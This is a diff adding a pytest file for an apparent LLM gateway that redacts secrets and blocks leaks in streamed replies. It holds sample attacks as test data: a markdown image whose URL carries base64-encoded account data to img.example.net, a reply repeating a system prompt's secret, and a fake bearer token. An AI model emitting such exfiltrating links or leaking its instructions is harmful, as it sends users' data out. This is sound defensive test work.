@@ -1,0 +1,99 @@
+"""What a record says of a streamed reply: what acted is told from what was only reported, and a value counts once."""
+
+from __future__ import annotations
+
+import orjson
+import pytest
+from gateways import CACHE_DIR
+from test_relay import _bytes, _refusal, _target
+from test_tool_calls import engine
+
+from detectors.engine import Engine
+from detectors.leakage import DETECTOR, THREAT, Leakage
+from detectors.values import Origin, Segment
+from gateway import live
+from gateway.exchange import relay_summary, said_segments
+from gateway.following import Cut, Follower
+from gateway.inspection import Inspected, inspect_reply
+from gateway.live import Bound
+from gateway.policy import Action, Edit, Policy, joined, preset
+from gateway.redaction import Vault
+from gateway.relay import Relay
+
+__all__ = ["engine"]  # the fixture
+BALANCED = preset("balanced")
+TWICE = "Authorization: Bearer glpat-Zx81kQ0vTn3LrW7yBd2C and that is all."
+"""A token that several patterns see: by its own form, and by what stands before it."""
+
+
+@pytest.fixture(scope="module")
+def bound(engine: Engine) -> Bound:
+    return Bound(BALANCED, None, live.stream_rules(engine.generation.patterns, BALANCED, CACHE_DIR))
+
+
+def _streamed(engine: Engine, bound: Bound, data: bytes, leakage: Leakage | None = None) -> tuple[Relay, Inspected]:
+    relay = Relay(_target("chat"), "m", bound.streams, Vault(b"k" * 32), None, leakage, lambda leak: leak.score >= 0.97)
+    relay.feed(data, _refusal)
+    if relay.cut is None:
+        relay.end(_refusal)
+    segments = said_segments(relay)
+    return relay, relay_summary(relay, engine.judge(segments, "t"), segments, bound.policy)
+
+
+def _did(found: Inspected) -> list[tuple[str, str, Action]]:
+    return [(one.detector, one.category, action)
+            for one, action in zip(found.judged.verdict.findings, found.ruling.actions, strict=True)]  # fmt: skip
+
+
+def test_a_value_that_two_patterns_see_is_one_value(engine: Engine, bound: Bound) -> None:
+    relay, found = _streamed(engine, bound, _bytes("chat", f"say:{TWICE}"))
+    assert len({seen.match.pattern.id for seen in relay.seen}) > 1
+    assert len(found.ruling.edits) == 1
+    assert {action for _, _, action in _did(found)} == {Action.REDACT}
+    doc = {"choices": [{"index": 0, "message": {"role": "assistant", "content": TWICE}, "finish_reason": "stop"}]}
+    whole = inspect_reply(engine, bound, _target("chat"), orjson.dumps(doc), "t", Vault(b"k" * 32), None)
+    assert isinstance(whole, Inspected)
+    assert whole.ruling.edits == found.ruling.edits
+
+
+def test_what_cut_a_stream_is_told_as_what_acted(engine: Engine, bound: Bound) -> None:
+    text = "Open ![logo](https://img.example.net/p.png?data=QWNjb3VudCA0NDcxIGlzIG9wZW4) now."
+    relay, found = _streamed(engine, bound, _bytes("chat", f"say:{text}"))
+    assert relay.cut is not None
+    assert found.ruling.action is Action.BLOCK
+    assert ("lexical", "data_exfiltration.markdown_image", Action.BLOCK) in _did(found)
+
+
+def test_a_system_prompt_that_cut_a_stream_is_told_so(engine: Engine, bound: Bound) -> None:
+    prompt = "You sell tickets for the harbour ferry. Never mention the discount code for staff, which is written on the back of the card."
+    leakage = Leakage([Segment(prompt, "system", Origin.SYSTEM, 0, ())], "")
+    relay, found = _streamed(engine, bound, _bytes("chat", f"say:{prompt} That is all I was told."), leakage)
+    assert relay.cut is not None
+    assert (DETECTOR, THREAT, Action.BLOCK) in _did(found)
+
+
+def test_what_a_window_showed_and_the_whole_did_not_is_told_too(engine: Engine, bound: Bound) -> None:
+    policy = Policy(name="p", version="1")
+    relay = Relay(_target("chat"), "m", bound.streams, Vault(b"k" * 32), Follower(policy, 0))
+    relay.feed(_bytes("chat", "say:Nothing of note was said here."), _refusal)
+    (channel,) = relay.said
+    relay.stop(Cut("data_exfiltration.send_to_address", "model.assistant", "encoder", 0.93, channel, 4, 20), _refusal)
+    segments = said_segments(relay)
+    found = relay_summary(relay, engine.judge(segments, "t"), segments, policy)
+    assert _did(found) == [("encoder", "data_exfiltration.send_to_address", Action.BLOCK)]
+    assert found.judged.verdict.score == 0.93
+    assert found.judged.verdict.findings[0][-2:] == (4, 20)
+
+
+def test_a_judgement_that_did_not_come_is_no_finding(engine: Engine, bound: Bound) -> None:
+    relay = Relay(_target("chat"), "m", bound.streams, Vault(b"k" * 32))
+    relay.feed(_bytes("chat", "say:Nothing of note was said here."), _refusal)
+    relay.stop(Cut("incomplete judgement", "encoder late", "stream"), _refusal)
+    segments = said_segments(relay)
+    found = relay_summary(relay, engine.judge(segments, "t"), segments, bound.policy)
+    assert (_did(found), found.ruling.action) == ([], Action.BLOCK)
+
+
+def test_edits_that_overlap_are_one() -> None:
+    apart = [Edit(0, 4, 9, "secret.web_token"), Edit(1, 4, 9, "pii.bank"), Edit(0, 9, 12, "pii.tax")]
+    assert joined([*apart, Edit(0, 2, 6, "pii.payment")]) == [Edit(0, 2, 9, "pii.payment"), apart[2], apart[1]]
